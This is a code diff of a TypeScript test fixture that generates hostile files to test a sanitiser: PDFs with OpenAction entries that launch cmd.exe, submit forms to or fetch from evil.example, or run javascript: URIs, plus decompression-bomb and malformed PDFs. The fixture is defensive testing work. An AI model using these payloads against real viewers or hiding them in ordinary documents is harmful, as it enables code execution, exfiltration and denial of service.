@@ -1,7 +1,7 @@
 import { deflateSync } from 'node:zlib'
-import { makePdf, makePhoto, makePicture, packed, pdfStream, pngOfSize, withChunk, withSegment } from './make-files.ts'
+import { makePdf, makePhoto, makePicture, pdfStream, pngOfSize, withChunk, withSegment } from './make-files.ts'
 
-/** A file that means ill, or tells more than it shows. Where it is taken, nothing of its mark may be left. */
+/** A file that means ill, or tells more than it shows. Nothing of its mark may be left in a picture. */
 export type HostileFile = { readonly name: string; readonly bytes: Buffer; readonly mark: string }
 
 /** What programs, pages and archives begin with; the mark follows on each. */
@@ -28,35 +28,21 @@ const FOREIGN: readonly (readonly [string, string])[] = [
   ['tiff', 'II*\0\x08\0\0\0'],
 ]
 
-/** How a catalog can name what runs, opens, sends or carries something; `$` is the mark. */
+/** What a catalog can name that runs, opens, sends or carries something; `$` is the mark. */
 const ACTIVE: readonly string[] = [
   '/OpenAction << /S /JavaScript /JS (app.alert\\("$"\\)) >>',
   '/OpenAction << /S /Launch /F (cmd.exe $) >>',
   '/OpenAction << /S /SubmitForm /F (http://evil.example/$) >>',
-  '/OpenAction << /S /ImportData /F ($) >>',
   '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\$) >>',
-  '/OpenAction << /S /GoToE /T ($) >>',
-  '/OpenAction << /S /Rendition /R ($) >>',
-  '/OpenAction << /S /Thread /F ($) >>',
-  '/OpenAction << /S /Sound /Sound ($) >>',
-  '/OpenAction << /S /Movie /T ($) >>',
-  '/OpenAction << /S /RichMediaExecute /TA ($) >>',
   '/OpenAction << /S /URI /URI (javascript:$) >>',
-  '/OpenAction << /S /URI /URI (file:///etc/$) >>',
-  '/OpenAction << /S /URI /URI (\\152avascript:$) >>',
-  '/OpenAction << /S /URI >>',
+  '/URI << /Base (javascript:$) >>',
   '/AA << /WC << /S /JavaScript /JS ($) >> >>',
-  '/Names << /JavaScript << /Names [($) 5 0 R] >> >>',
   '/Names << /EmbeddedFiles << /Names [($) 5 0 R] >> >>',
-  '/AF [<< /Type /Filespec /EF << /F 5 0 R >> /UF ($) >>]',
   '/AcroForm << /Fields [] /XFA [($) 5 0 R] >>',
-  '/Collection << /View /D /D ($) >>',
   '/Extra << /Type /Annot /Subtype /RichMedia /NM ($) >>',
-  '/Extra << /Type /Annot /Subtype /3D /NM ($) >>',
-  '/Extra << /Subtype /PS /NM ($) >>',
 ]
 
-/** The corpus, made anew each time: 300 files, each with a mark of its own. */
+/** The corpus, made anew each time: each file has a mark of its own. */
 export async function makeHostileFiles(): Promise<readonly HostileFile[]> {
   const files: HostileFile[] = []
   const add = (name: string, make: (mark: string) => Buffer | string) => {
@@ -105,13 +91,9 @@ export async function makeHostileFiles(): Promise<readonly HostileFile[]> {
     const photo = await makePhoto({ degrees: 10 + turn, orientation: turn })
     files.push({ name: `a photo with its position, ${turn}`, bytes: photo, mark: `CANARY-${10 + turn}` })
   }
-  for (const active of ACTIVE) {
+  for (const active of ACTIVE)
     add(`a PDF with ${active}`, (mark) => makePdf({ catalog: active.replace('$', mark), objects: [`<< /N (${mark}) >>`] }))
-    add(`a PDF with codes in ${active}`, (mark) => makePdf({ catalog: withCodes(active).replace('$', mark), objects: ['null'] }))
-    add(`a PDF with packed ${active}`, (mark) => makePdf({ objects: [packed(9, `<< ${active.replace('$', mark)} >>`)] }))
-  }
-  for (const [name, parts] of oddPdfs())
-    add(name, (mark) => (Buffer.isBuffer(parts) ? parts : Buffer.from(parts.replace('$', mark), 'latin1')))
+  for (const [name, pdf] of oddPdfs()) add(name, () => pdf)
   return files
 }
 
@@ -121,61 +103,25 @@ function changed(bytes: Buffer, at: number): Buffer {
   return copy
 }
 
-/** Names of a PDF can be written with codes, which not everybody reads. */
-function withCodes(active: string): string {
-  return active.replace(/\/([A-Z0-9])(?=[A-Za-z]|\b)/g, (_, letter: string) => `/#${letter.charCodeAt(0).toString(16)}`)
-}
-
-function oddPdfs(): readonly (readonly [string, string | Buffer])[] {
-  const text = (pdf: Buffer) => pdf.toString('latin1')
-  const bomb = deflateSync(Buffer.alloc(70_000_000))
-  const script = '<< /S /JavaScript /JS ($) >>'
+/** PDFs that are hard on who reads them, or that viewers open although a strict reader would not. */
+function oddPdfs(): readonly (readonly [string, Buffer])[] {
+  const plain = makePdf().toString('latin1')
+  const objects = (entries: number, text: Buffer) => {
+    const places = Array.from({ length: entries }, (_, i) => `${i + 9} 0`).join(' ')
+    const packed = deflateSync(Buffer.concat([Buffer.from(`${places} `), text]))
+    return pdfStream(`/Type /ObjStm /N ${entries} /First ${places.length + 1} /Filter /FlateDecode`, packed)
+  }
+  const blanks = Buffer.alloc(60_000_000, ' ')
   return [
-    ['an encrypted PDF', text(makePdf({ trailer: '/Encrypt << /Filter /Standard /O ($) >>' }))],
-    ['a PDF whose older state ran something', text(makePdf({ objects: [script, 'null'] })).replace('6 0 obj', '5 0 obj')],
-    ['a PDF with a script that nothing refers to', text(makePdf({ objects: [script] }))],
-    ['a PDF with a script between its objects', text(makePdf()).replace('2 0 obj', `${script}\n2 0 obj`)],
-    ['a PDF with words before it', `<script>$</script>\n${text(makePdf())}`],
-    ['a PDF whose object does not end', text(makePdf()).replace('endobj', '')],
-    ['a PDF whose stream is longer than it says', text(makePdf()).replace('/Length 35', '/Length 5')],
-    ['a PDF whose stream is shorter than it says', text(makePdf()).replace('/Length 35', '/Length 900')],
-    ['a PDF with a length that is no number', text(makePdf()).replace('/Length 35', '/Length -1')],
-    ['a PDF with a key twice', text(makePdf({ catalog: '/A 1 /A ($)' }))],
-    ['a PDF without a catalog', text(makePdf()).replace('/Catalog', '/Catalox')],
-    ['a PDF without pages', text(makePdf()).replace('/Pages 2 0 R', '/Pagez ($)')],
-    ['a PDF that is nested ten thousand times', text(makePdf({ catalog: `/A ${'['.repeat(10_000)}` }))],
-    [
-      'a PDF with objects that unpack to 70 MB',
-      makePdf({ objects: [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)] }),
-    ],
-    [
-      'a PDF with objects packed twice',
-      makePdf({
-        objects: [
-          pdfStream('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync('9 0 null'))),
-        ],
-      }),
-    ],
-    [
-      'a PDF with objects packed by LZW',
-      makePdf({ objects: [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', Buffer.from('abc'))] }),
-    ],
-    [
-      'a PDF with packed objects that are none',
-      makePdf({ objects: [pdfStream('/Type /ObjStm /N 5 /First 400', Buffer.from('1 2 3'))] }),
-    ],
-    [
-      'a PDF with a stream from another file',
-      makePdf({ objects: [pdfStream('/F (\\\\\\\\evil.example\\\\a)', Buffer.from('x'))] }),
-    ],
-    [
-      'a PDF with metadata',
-      text(makePdf({ catalog: '/Metadata 5 0 R', objects: [text(pdfStream('/Type /Metadata', Buffer.from('$')))] })),
-    ],
-    ['a PDF with its makers', text(makePdf({ trailer: '/Info 5 0 R', objects: ['<< /Author ($) >>'] }))],
-    ['a PDF with a comment', text(makePdf()).replace('2 0 obj', '% $\n2 0 obj')],
-    ['a PDF with half a text', text(makePdf({ catalog: '/A ($' }))],
-    ['a PDF with half a text in digits', text(makePdf({ catalog: '/A <4a' }))],
-    ['a PDF whose text in digits has letters', text(makePdf({ catalog: '/A <$>' }))],
+    ['a PDF with 40 objects on one long text', makePdf({ objects: [objects(40, Buffer.alloc(40_000_000, '('))] })],
+    ['a PDF with 100 objects on blanks', makePdf({ objects: [objects(100, blanks)] })],
+    ['a PDF with 12,000 objects on blanks', makePdf({ objects: [objects(12_000, blanks)] })],
+    ['a PDF that is nested ten thousand times', makePdf({ catalog: `/A ${'['.repeat(10_000)}` })],
+    ['a PDF of many objects', Buffer.from(`%PDF-1.4\n${'1 0 obj 1 endobj\n'.repeat(400_000)}`)],
+    ['an encrypted PDF', makePdf({ trailer: '/Encrypt << /Filter /Standard >>' })],
+    ['a PDF with a line before it', Buffer.from(`\n${plain}`, 'latin1')],
+    ['a PDF with a mark before it', Buffer.from(`\xef\xbb\xbf${plain}`, 'latin1')],
+    ['a PDF with zeros behind it', Buffer.concat([Buffer.from(plain, 'latin1'), Buffer.alloc(2_000)])],
+    ['a PDF whose stream is shorter than it says', Buffer.from(plain.replace('/Length 35', '/Length 900'), 'latin1')],
   ]
 }
